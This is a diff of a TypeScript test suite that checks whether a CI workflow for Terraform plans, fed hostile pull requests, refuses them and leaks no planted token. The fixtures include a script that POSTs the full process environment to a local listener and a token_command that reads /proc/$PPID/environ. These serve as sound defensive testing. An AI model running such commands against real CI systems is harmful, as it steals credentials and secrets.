@@ -11,12 +11,11 @@
  * Needs terraform on PATH and the build (dist/).
  */
 import { spawnSync } from "node:child_process";
-import { createServer, type IncomingMessage, type Server } from "node:http";
 import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync, chmodSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { useSimulator } from "../support/simulator";
-import { encodings } from "../ci/planted-token";
+import { encodings, startListener, type Listener } from "../ci/planted-token";
 import { filesUnder, loadWorkflow, runWorkflow, type RunResult } from "../ci/workflow-runner";
 import { mainTf, userLine } from "./hcl-workflow-config";
 
@@ -24,28 +23,16 @@ const TOKEN = "planted-secret-7f3c91d2a8e44b0c";
 const sim = useSimulator({ token: TOKEN });
 const VERSION = "0.1.0";
 
-let received: { url: string; headers: string; body: string }[] = [];
-let listener: Server;
-let listenerUrl: string;
+let listener: Listener;
 let dir: string;
 
 beforeAll(async () => {
   dir = mkdtempSync(join(tmpdir(), "aru-hcl-run-"));
-  listener = createServer((req: IncomingMessage, res) => {
-    let body = "";
-    req.on("data", (c: Buffer) => (body += c.toString("latin1")));
-    req.on("end", () => {
-      received.push({ url: req.url ?? "", headers: JSON.stringify(req.headers), body });
-      res.end("{}");
-    });
-  });
-  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
-  const address = listener.address();
-  listenerUrl = `http://127.0.0.1:${typeof address === "object" && address !== null ? address.port : 0}`;
+  listener = await startListener();
 });
 
 afterAll(async () => {
-  await new Promise((resolve) => listener.close(resolve));
+  await listener.close();
   rmSync(dir, { recursive: true, force: true });
 });
 
@@ -69,7 +56,7 @@ function tree(name: string, files: Record<string, string>, dependency = VERSION,
 
 /** A script the hostile pull request wants run: it leaves a marker and sends its environment to the listener. */
 function hostileScript(marker: string): string {
-  return `#!/usr/bin/env bash\ntouch ${JSON.stringify(marker)}\nnode -e 'fetch(process.argv[1], { method: "POST", body: JSON.stringify(process.env) }).catch(() => {})' ${JSON.stringify(listenerUrl)}\nexit 1\n`;
+  return `#!/usr/bin/env bash\ntouch ${JSON.stringify(marker)}\nnode -e 'fetch(process.argv[1], { method: "POST", body: JSON.stringify(process.env) }).catch(() => {})' ${JSON.stringify(listener.url)}\nexit 1\n`;
 }
 
 async function run(head: string, base: string): Promise<RunResult> {
@@ -91,7 +78,7 @@ function expectNoTokenLeft(result: RunResult): void {
   for (const [name, artifact] of Object.entries(result.artifacts)) {
     for (const file of filesUnder(artifact)) for (const form of forms) expect(`${name}: ${file.path}: ${file.content.toString("latin1").includes(form)}`).toBe(`${name}: ${file.path}: false`);
   }
-  for (const request of received) for (const form of forms) expect(`${request.url} ${request.headers} ${request.body}`.includes(form)).toBe(false);
+  for (const request of listener.received) for (const form of forms) expect(`${request.url} ${request.headers} ${request.body}`.includes(form)).toBe(false);
 }
 
 const explain = (result: RunResult): string => result.steps.map((s) => `[${s.job}] ${s.step}: ${s.code}\n${s.output.slice(-3000)}`).join("\n");
@@ -102,7 +89,7 @@ describe("the HCL plan workflow, run step by step with a planted token", () => {
     base = tree("base", { "alert-rules/main.tf": mainTf() });
   });
   beforeEach(() => {
-    received = [];
+    listener.received.length = 0;
   });
 
   it("a pull request that adds a user: the declarations job (no secret) evaluates it offline, the plan job (base checkout) plans its declarations and comments the CLI's rendering", async () => {
@@ -152,14 +139,14 @@ describe("the HCL plan workflow, run step by step with a planted token", () => {
 
   it("a provider url pointing elsewhere, and a token_command: refused by the locked provider (no request there, no command run); the plan job never runs", async () => {
     const marker = join(dir, "token-command-ran");
-    const head = tree("url", { "alert-rules/main.tf": mainTf([], { provider: `\n  url           = ${JSON.stringify(listenerUrl)}\n  token_command = ${JSON.stringify(`touch ${marker}; cat /proc/$PPID/environ`)}\n` }) });
+    const head = tree("url", { "alert-rules/main.tf": mainTf([], { provider: `\n  url           = ${JSON.stringify(listener.url)}\n  token_command = ${JSON.stringify(`touch ${marker}; cat /proc/$PPID/environ`)}\n` }) });
     const result = await run(head, base);
     expect(result.jobs).toEqual({ declarations: "failure", plan: "skipped" });
     const evaluated = result.steps.find((s) => s.step.startsWith("Evaluate"))!;
     expect(evaluated.output).toContain("url is not allowed in a locked provider");
     expect(evaluated.output).toContain("token_command is not allowed in a locked provider");
     expect(existsSync(marker)).toBe(false);
-    expect(received).toEqual([]);
+    expect(listener.received).toEqual([]);
     expect(result.comments).toEqual([]);
     expectNoTokenLeft(result);
   });
@@ -172,7 +159,7 @@ describe("the HCL plan workflow, run step by step with a planted token", () => {
     const result = await run(head, base);
     expect(result.jobs).toEqual({ declarations: "failure", plan: "skipped" });
     expect(existsSync(marker)).toBe(false);
-    expect(received).toEqual([]);
+    expect(listener.received).toEqual([]);
     expectNoTokenLeft(result);
   });
 
@@ -194,7 +181,7 @@ describe("the HCL plan workflow, run step by step with a planted token", () => {
     const check = result.steps.find((s) => s.step === "Check the alert-rule-users dependency")!;
     expect(check.output).toContain('package.json must depend on alert-rule-users at a registry version (e.g. "0.1.0"), not "file:evilpkg". Nothing was installed.');
     expect(existsSync(marker)).toBe(false);
-    expect(received).toEqual([]);
+    expect(listener.received).toEqual([]);
     expectNoTokenLeft(result);
   });
 });
